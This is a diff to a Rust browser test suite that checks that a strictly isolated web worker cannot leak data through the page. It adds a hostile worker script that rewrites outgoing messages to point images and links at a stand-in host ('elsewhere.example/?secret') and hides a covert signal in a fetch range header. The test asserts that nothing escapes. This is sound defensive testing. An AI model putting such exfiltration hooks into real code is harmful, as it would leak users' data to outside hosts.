@@ -1,10 +1,15 @@
 //! `isolation="strict"`: a worker that cannot speak to the network. The browser enforces it, the worker tries every way out
 //! before it starts, and where one is open nothing starts.
 
+use std::sync::{
+    Arc,
+    atomic::{AtomicUsize, Ordering},
+};
+
 use anyhow::Result;
 use browser_tests::{
     Shop, Site,
-    site::{Fault, page},
+    site::{Fault, altered_worker, page},
     visit_each,
 };
 use serde_json::json;
@@ -144,5 +149,57 @@ async fn a_policy_without_blobs_is_named_and_the_shops_markup_stands() -> Result
             Ok(())
         },
     )
+    .await
+}
+
+/// A worker that puts what it knows into everything that it sends to the page.
+const TALKATIVE: &str = r#"
+    const send = self.postMessage.bind(self);
+    self.postMessage = (message, ...more) => {
+      for (const update of message?.updates ?? []) {
+        if (update.type === "shelf") {
+          for (const card of update.cards) Object.assign(card, { image: "/leak-image?secret", url: "https://elsewhere.example/?secret" });
+        }
+      }
+      send(message, ...more);
+    };
+    self.fetch = ((own) => async (url, wishes) => {
+      if (`${url}`.endsWith("manifest.json")) await own(url, { headers: { range: "bytes=31415926535-" } }).catch(() => {});
+      return own(url, wishes);
+    })(self.fetch);
+    const starting = start();"#;
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_isolated_worker_says_nothing_through_the_page() -> Result<()> {
+    let arrived = Arc::new(AtomicUsize::new(0));
+    let site = || {
+        let ranges = arrived.clone();
+        let (page, worker) =
+            (page("/isolated.html", PAGE.into()), altered_worker("const starting = start();", TALKATIVE));
+        Site::with(Box::new(move |path, reply| {
+            page(path, reply);
+            if path == "/isolated.html" {
+                reply.headers.retain(|(name, _)| *name != "content-security-policy");
+                reply.headers.push(("content-security-policy", POLICY.into()));
+            }
+            worker(path, reply);
+            // A range that reached the server is answered by one of these.
+            if path.ends_with("manifest.json") && [206, 416].contains(&reply.status) {
+                ranges.fetch_add(1, Ordering::Relaxed);
+            }
+        }))
+    };
+    visit_each(site, async |shop: &Shop| {
+        shop.open("isolated.html").await?;
+        let drawn = r#"
+            const { shadowRoot } = document.querySelector("nearmind-shelf");
+            return [shadowRoot.querySelectorAll("img").length, shadowRoot.querySelectorAll("a[href]").length,
+              shadowRoot.querySelectorAll("[part~=link]").length > 0];"#;
+        assert_eq!(shop.ask(drawn, &[]).await?, json!([0, 0, true]));
+        let asked = shop.site.requests();
+        assert!(!asked.iter().any(|line| line.contains("secret") || line.contains("leak")), "{asked:?}");
+        assert_eq!(arrived.load(Ordering::Relaxed), 0, "a number of the worker's arrived as a range");
+        Ok(())
+    })
     .await
 }
